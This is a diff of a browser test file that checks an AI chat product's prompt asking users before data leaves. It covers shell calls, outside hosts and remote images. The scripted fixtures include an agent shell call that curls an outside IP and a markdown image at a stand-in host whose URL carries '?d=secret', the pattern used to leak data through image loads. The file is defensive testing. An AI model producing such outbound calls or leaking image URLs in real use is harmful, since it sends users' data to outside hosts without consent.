@@ -1,21 +1,11 @@
-import { afterAll, beforeAll, expect, test } from 'vitest'
-import { type House, openHouse } from './support/house.ts'
+import { expect, test } from 'vitest'
 import { inspect } from './support/inspect.ts'
 import { focusedName, tabTo } from './support/keyboard.ts'
-import { type Ask, type Provider, startProvider } from './support/provider.ts'
+import type { Ask } from './support/provider.ts'
+import { scriptedHouse } from './support/scripted-house.ts'
 import type { Visitor } from './support/visitor.ts'
 
-let house: House
-let provider: Provider
-
-beforeAll(async () => {
-  provider = await startProvider()
-  house = await openHouse({ vars: provider.vars })
-})
-afterAll(async () => {
-  await house.close()
-  await provider.close()
-})
+const scene = scriptedHouse()
 
 /** Long enough to be something of one's own. */
 const LETTER = `Answer this letter. ${'Dear Sir. '.repeat(110)}`
@@ -27,7 +17,7 @@ function play(...steps: ((ask: Ask) => void)[]): void {
     (ask: Ask) => ask.call('shell', { command: 'curl -s --max-time 1 http://93.184.215.14/ || true' }),
     ...steps,
   ]
-  provider.answer((ask) => {
+  scene.provider.answer((ask) => {
     const step = rest.shift()
     if (step) step(ask)
     else ask.say('That is all.')
@@ -44,7 +34,7 @@ async function asked(visitor: Visitor, host: string) {
 }
 
 test('a call that waits says what it wants, is denied by keyboard, and says so after a reload', async () => {
-  const visitor = await house.visit()
+  const visitor = await scene.house.visit()
   const { page } = visitor
   play(reach)
   await visitor.send(LETTER)
@@ -75,7 +65,7 @@ test('a call that waits says what it wants, is denied by keyboard, and says so a
 })
 
 test('once, and for this host; two tabs agree', async () => {
-  const visitor = await house.visit()
+  const visitor = await scene.house.visit()
   const { page } = visitor
   play(reach, reach, reach)
   await visitor.send(LETTER)
@@ -96,7 +86,7 @@ test('once, and for this host; two tabs agree', async () => {
 })
 
 test('a site that names a host waits, and the host is opened and closed beside its preview', async () => {
-  const visitor = await house.visit({ viewport: { width: 1440, height: 900 } })
+  const visitor = await scene.house.visit({ viewport: { width: 1440, height: 900 } })
   const { page } = visitor
   const content = '<!doctype html><title>Plan</title><a href="https://collect.example/">More</a>'
   const site = { type: 'static', local_dir: 'output/site' }
@@ -130,7 +120,7 @@ async function policyOf(visitor: Visitor): Promise<string> {
 }
 
 test('the account turns it off and on again by keyboard', async () => {
-  const visitor = await house.visit({ path: '/settings' })
+  const visitor = await scene.house.visit({ path: '/settings' })
   const { page } = visitor
   const choice = page.getByRole('checkbox', { name: 'Ask me before data of mine could leave' })
   await expect.poll(() => choice.isEnabled()).toBe(true)
@@ -146,9 +136,9 @@ test('the account turns it off and on again by keyboard', async () => {
 })
 
 test('an image on another host is not asked for without a click', async () => {
-  const visitor = await house.visit({ mayComplain: /status of 4\d\d/ })
+  const visitor = await scene.house.visit({ mayComplain: /status of 4\d\d/ })
   const { page } = visitor
-  provider.answer((ask) => {
+  scene.provider.answer((ask) => {
     ask.say('Look: ![a cat](https://pictures.example/cat.png?d=secret) and ![own](output/dot.png)')
     ask.end()
   })
@@ -165,7 +155,7 @@ test('an image on another host is not asked for without a click', async () => {
   await page.keyboard.press('Enter')
   await visitor.talk.getByRole('alert').waitFor()
   expect(requests.filter((url) => url.includes('cat.png'))).toEqual([
-    `${house.url}/api/remote-images?${new URLSearchParams({ url: 'https://pictures.example/cat.png?d=secret' })}`,
+    `${scene.house.url}/api/remote-images?${new URLSearchParams({ url: 'https://pictures.example/cat.png?d=secret' })}`,
   ])
   await visitor.leave()
 })
@@ -180,7 +170,7 @@ test('what waits is readable, wide and narrow, light and dark, in both languages
       ['light', 'en-US', 'Allow once'],
       ['dark', 'zh-CN', '允许一次'],
     ] as const) {
-      const visitor = await house.visit({ viewport, colorScheme, locale })
+      const visitor = await scene.house.visit({ viewport, colorScheme, locale })
       play(reach)
       await visitor.send(LETTER)
       await visitor.talk.getByRole('button', { name }).waitFor()
